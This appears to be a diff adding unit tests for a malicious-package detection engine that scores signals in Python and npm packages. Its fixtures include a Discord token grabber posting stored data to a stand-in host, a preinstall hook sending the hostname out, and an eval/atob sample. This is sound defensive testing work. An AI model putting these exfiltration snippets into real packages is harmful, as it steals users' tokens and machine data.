@@ -1,0 +1,70 @@
+from __future__ import annotations
+
+from tests.analysis.builders import npm_tarball, sdist
+from threatfeed.analysis import FLAG_THRESHOLD, Engine
+from threatfeed.analysis.model import Indicator, Signal
+from threatfeed.analysis.scoring import POINTS_AT_THRESHOLD, points, rule_points, score
+
+GRABBER = (
+    "import os, requests\n"
+    "path = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+    "requests.post('https://x.example.net/c', data=open(path).read())\n"
+)
+
+
+def _signal(weight: float, context: str, key: str) -> Signal:
+    return Signal("f", 1, "", weight, context, key=key)
+
+
+def test_threshold_sits_at_ten_points() -> None:
+    assert score(POINTS_AT_THRESHOLD) == FLAG_THRESHOLD
+    assert score(0) == 0.0
+    assert score(9.9) < FLAG_THRESHOLD < score(10.1) < 1.0
+
+
+def test_context_weighs_the_same_signal() -> None:
+    install = Indicator("r", [], (_signal(5, "install", "k"),))
+    tests = Indicator("r", [], (_signal(5, "test", "k"),))
+    assert rule_points(install) == 5
+    assert rule_points(tests) < 2
+
+
+def test_repeats_of_a_key_count_once_and_distinct_keys_halve() -> None:
+    repeated = Indicator("r", [], tuple(_signal(4, "install", "same") for _ in range(10)))
+    assert rule_points(repeated) == 4
+    distinct = Indicator("r", [], tuple(_signal(4, "install", str(i)) for i in range(3)))
+    assert rule_points(distinct) == 4 + 2 + 1
+    assert points([repeated, distinct]) == 11
+
+
+def test_network_plus_harvesting_in_one_file_outweighs_each_alone(engine: Engine) -> None:
+    harvest_only = "import os\np = os.path.join('discord', 'Local Storage', 'leveldb')\n"
+    network_only = "import requests\nrequests.post('https://x.example.net/c', data='hi')\n"
+    both = engine.analyze(sdist({"t/g.py": GRABBER}))
+    alone = [engine.analyze(sdist({"t/g.py": c})) for c in (harvest_only, network_only)]
+    assert "data_exfiltration_rule" in both.indicators
+    assert both.flagged
+    assert not any(a.flagged for a in alone)
+    assert both.score > max(a.score for a in alone) + 0.1
+
+
+def test_same_code_weighs_more_at_install_than_in_tests(engine: Engine) -> None:
+    code = "const os = require('os');\nrequire('https').get('https://x.example.net/' + os.hostname());\n"
+    hooked = engine.analyze(npm_tarball({"p.js": code}, scripts={"preinstall": "node p.js"}))
+    tested = engine.analyze(npm_tarball({"test/p.test.js": code}))
+    assert hooked.score > tested.score
+    assert hooked.flagged and not tested.flagged
+
+
+def test_files_are_never_skipped_for_their_path(engine: Engine) -> None:
+    """Malware hidden under tests/ or listed in .npmignore is still seen (weighed lower)."""
+    analysis = engine.analyze(
+        npm_tarball(
+            {
+                ".npmignore": "test/\n",
+                "test/helper.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
+            }
+        )
+    )
+    assert "decode_and_execute_rule" in analysis.indicators
+    assert any(loc.file == "package/test/helper.js" for loc in analysis.locations)
